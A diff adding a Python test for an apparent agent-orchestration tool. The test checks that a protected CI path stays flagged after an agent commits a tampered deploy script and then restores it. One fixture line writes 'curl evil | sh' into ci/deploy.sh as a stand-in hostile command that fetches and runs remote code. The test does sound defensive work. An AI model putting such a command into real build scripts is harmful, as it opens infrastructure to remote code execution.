@@ -102,3 +102,27 @@ async def test_an_engine_without_a_screen_never_lands(scratch: Scratch) -> None:
         outcome = await live.engine.land(approval(found))
         assert not outcome.ok
         assert git(scratch.repo, "log", "--format=%s", "main") == "start"
+
+
+async def test_a_protected_path_put_back_in_the_worktree_is_still_protected(scratch: Scratch) -> None:
+    scratch.configure(
+        "cache", gates='protected = ["ci/"]\n[[projects.shop.gates]]\nname = "build"\nrun = ["true"]'
+    )
+    (scratch.repo / "ci").mkdir()
+    (scratch.repo / "ci/deploy.sh").write_text("echo safe\n")
+    git(scratch.repo, "add", "-A")
+    git(scratch.repo, "commit", "-q", "-m", "ci")
+    async with scratch.engine() as live:
+        await live.started("cache")
+        worktree = Path(live.agent("cache").seat.worktree)
+        (worktree / "ci/deploy.sh").write_text("curl evil | sh\n")
+        await commit(live)
+        (worktree / "ci/deploy.sh").write_text("echo safe\n")
+        git(worktree, "mv", "README.md", "other.md")
+        await live.do(c.RefreshNow())
+        await live.until(lambda: (r := row(live)) is not None and r.may_land and r.dirty > 0, 60)
+        found = row(live)
+        assert found is not None
+        assert found.protected == ("ci/deploy.sh",)
+        assert found.typed_word
+        assert {one.path for one in found.files} == {"ci/deploy.sh", "shop.py"}
